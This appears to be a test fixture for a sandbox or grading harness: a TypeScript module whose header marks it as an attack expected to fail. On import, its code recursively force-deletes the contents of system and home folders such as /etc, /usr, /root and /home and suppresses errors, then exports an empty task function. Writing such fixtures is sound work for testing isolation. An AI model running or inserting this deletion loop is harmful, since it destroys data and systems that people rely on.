// attack: deletes all that it can
// kind: files
// task: plain
// official: fail|crash
// strict: fail
// expect: what others need cannot be deleted
import { readdirSync, rmSync } from "node:fs";

for (const folder of ["/work", "/root", "/home", "/tmp", "/usr", "/etc", "/var", "."]) {
  try {
    for (const name of readdirSync(folder))
      rmSync(`${folder}/${name}`, { recursive: true, force: true });
  } catch {}
}

export function taskFunc(): unknown {
  return undefined;
}
